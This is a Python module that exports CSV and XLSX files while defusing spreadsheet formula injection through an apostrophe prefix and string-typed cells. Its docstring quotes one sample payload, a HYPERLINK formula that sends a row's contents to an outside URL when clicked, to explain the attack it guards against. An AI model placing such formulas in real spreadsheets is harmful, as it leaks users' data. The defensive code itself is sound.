"""Every CSV and XLSX the system writes: tables that are safe to open in a spreadsheet.

A cell a person typed that begins with = + - @, a tab or a carriage return would be read
as a formula by Excel or WPS (CSV injection: `=HYPERLINK("http://…?x="&A2,"点此")` sends
the row away when clicked). Such text is written with a leading apostrophe, which the
spreadsheet shows as plain text; XLSX text cells are written as strings, never formulas,
and characters XLSX cannot hold (control characters) are dropped there instead of failing
the whole export.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: Any) -> Any:
    """A text cell neutralised if a spreadsheet would run it; numbers and dates unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM (so Excel reads the Chinese right), every cell made safe."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([safe_text(v) for v in header])
    for row in rows:
        writer.writerow([safe_text(v) for v in row])
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet, streamed (write-only), text cells typed as strings."""
    return xlsx_book([(title, header, rows)])


def xlsx_book(sheets: Sequence[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]) -> bytes:
    """A sheet per (title, header, rows), streamed (write-only), text cells typed as
    strings, the header bold and the columns wide enough for Chinese labels."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    used: set[str] = set()
    for title, header, rows in sheets:
        name = ILLEGAL_CHARACTERS_RE.sub("", title)[:31] or "Sheet"
        for bad in "[]:*?/\\":
            name = name.replace(bad, " ")
        while name in used:
            name = f"{name[:28]}_{len(used)}"
        used.add(name)
        sheet = book.create_sheet(name)
        for i in range(len(header)):
            sheet.column_dimensions[chr(ord("A") + i) if i < 26 else "A"].width = 14

        def cells(values: Sequence[Any], bold: bool = False, sheet: Any = sheet) -> list[Any]:
            out = []
            for value in values:
                if isinstance(value, str) or bold:
                    text = ILLEGAL_CHARACTERS_RE.sub("", safe_text(str(value)))
                    cell = WriteOnlyCell(sheet, value=text)
                    cell.data_type = "s"  # text, even when it looks like a formula
                    if bold:
                        cell.font = Font(bold=True)
                    out.append(cell)
                else:
                    out.append(value)
            return out

        sheet.append(cells(header, bold=True))
        for row in rows:
            sheet.append(cells(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
